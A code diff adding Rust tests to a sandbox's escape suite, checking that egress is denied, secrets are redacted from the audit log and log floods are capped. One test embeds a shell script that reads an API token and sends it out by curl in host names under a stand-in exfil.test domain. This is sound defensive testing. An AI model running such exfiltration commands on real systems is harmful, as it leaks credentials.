@@ -1,5 +1,6 @@
-//! Attacks on the envelope around the sandbox: a configured runtime that does not exist, an
-//! "always" answer for one ad-hoc command stretched over others, and a scope nothing enforces.
+//! Attacks on the envelope around the sandbox: a configured runtime that does not exist, a
+//! secret smuggled into the audit log through a host name, an "always" answer for one ad-hoc
+//! command stretched over others, a scope nothing enforces, and a program flooding the log.
 
 use super::*;
 use rexpect::session::{PtySession, spawn_command};
@@ -96,6 +97,52 @@ fn auto_runtime_is_told_to_policy_and_recorded_as_the_runtime_that_runs() {
     );
     assert_eq!(outcome.record("run.launch")["data"]["runtime"], "native");
     assert_eq!(outcome.finished()["data"]["runtime"], "native");
+}
+
+#[test]
+fn secret_in_a_host_name_sent_to_the_proxy_never_reaches_the_audit_log() {
+    let escape = Escape::new();
+    let value = "S3cretToken42";
+    with_secret(&escape, value);
+    // The program spells the secret into host names in several cases and shapes, as a plain
+    // request, a tunnel and a malformed target.
+    let script = r#"
+        lower=$(printf '%s' "$API_TOKEN" | tr A-Z a-z)
+        upper=$(printf '%s' "$API_TOKEN" | tr a-z A-Z)
+        mixed=$(python3 -c 'import os; t=os.environ["API_TOKEN"]; print("".join(c.upper() if i % 2 else c.lower() for i, c in enumerate(t)))')
+        for host in "$API_TOKEN" "$lower" "$upper" "$mixed" "x-$mixed-y.sub"; do
+            curl -s -o /dev/null --max-time 5 "http://$host.exfil.test/"
+            curl -s -o /dev/null --max-time 5 -p "https://$host.exfil.test/"
+        done
+        python3 -c 'import os, socket; s = socket.create_connection(("127.0.0.1", 3128)); s.sendall(("GET http://" + os.environ["API_TOKEN"].lower() + "!/ HTTP/1.1\r\n\r\n").encode()); print(s.recv(200)[:12])'
+        echo done
+    "#;
+    let before = escape.audit_lines();
+    let outcome = escape.run(
+        &["secrets.read:API_TOKEN", "net.outbound:allowed.example.org"],
+        script,
+    );
+    assert_eq!(outcome.code(), Some(0), "{}", outcome.stderr());
+    assert!(outcome.stdout().ends_with("done\n"), "{}", outcome.stdout());
+    let egress = outcome.egress();
+    assert!(egress.len() >= 3, "{egress:#?}");
+    assert!(egress.iter().all(|record| record["decision"] == "deny"));
+    assert!(
+        egress
+            .iter()
+            .any(|record| record["data"]["host"] == "[REDACTED:API_TOKEN].exfil.test"),
+        "{egress:#?}"
+    );
+    // No spelling of the secret is in any record of the run.
+    let log = std::fs::read_to_string(escape.env.home().join("audit/audit.jsonl")).unwrap();
+    let run_lines: Vec<&str> = log.lines().skip(before).collect();
+    for line in &run_lines {
+        assert!(
+            !line.to_lowercase().contains(&value.to_lowercase()),
+            "the secret is in a record: {line}"
+        );
+    }
+    outcome.finished();
 }
 
 /// `sandbox run --scope files.write -- sh -c SCRIPT` in a pseudo-terminal, from `work`.
@@ -209,4 +256,54 @@ fn net_internal_scope_is_refused_not_silently_ignored() {
     assert_eq!(refused["data"]["stage"], "scope");
     assert_eq!(refused["reason"], reason);
     assert!(!outcome.has("run.launch"));
+}
+
+#[test]
+fn egress_flood_with_varying_names_is_collapsed_and_capped() {
+    let escape = Escape::new();
+    set_config(&escape, "max_run_records", "20");
+    std::fs::write(
+        escape.work.join("flood.py"),
+        r#"import socket
+def ask(host):
+    s = socket.create_connection(("127.0.0.1", 3128))
+    s.sendall(("CONNECT " + host + ":443 HTTP/1.1\r\n\r\n").encode())
+    s.recv(4096)
+    s.close()
+for _ in range(200):
+    ask("same.flood.test")
+for i in range(300):
+    ask("n%d.flood.test" % i)
+print("flooded")
+"#,
+    )
+    .unwrap();
+    let before = escape.audit_lines();
+    let outcome = escape.run(
+        &["files.read", "net.outbound:allowed.example.org"],
+        "python3 flood.py",
+    );
+    assert_eq!(outcome.stdout(), "flooded\n", "{}", outcome.stderr());
+    let egress = outcome.egress();
+    assert_eq!(egress.len(), 20, "{egress:#?}");
+    // 200 identical denials are one record.
+    assert_eq!(egress[0]["data"]["host"], "same.flood.test");
+    assert_eq!(egress[0]["data"]["count"], 200);
+    assert_eq!(egress[1]["data"]["host"], "n0.flood.test");
+    assert_eq!(egress[19]["data"]["host"], "n18.flood.test");
+    assert!(
+        egress[1..]
+            .iter()
+            .all(|record| record["data"]["count"] == 1)
+    );
+    // The rest is counted in one record that says the cap was reached.
+    let capped = outcome.record("run.records_capped");
+    assert_eq!(capped["data"]["cap"], 20);
+    assert_eq!(capped["data"]["suppressed"]["net.egress"]["events"], 281);
+    assert_eq!(capped["data"]["suppressed"]["net.egress"]["denied"], 281);
+    assert_eq!(capped["data"]["suppressed"]["net.egress"]["allowed"], 0);
+    // The whole run wrote a bounded handful of lines.
+    let lines = escape.audit_lines() - before;
+    assert!(lines <= 30, "{lines} lines");
+    outcome.finished();
 }
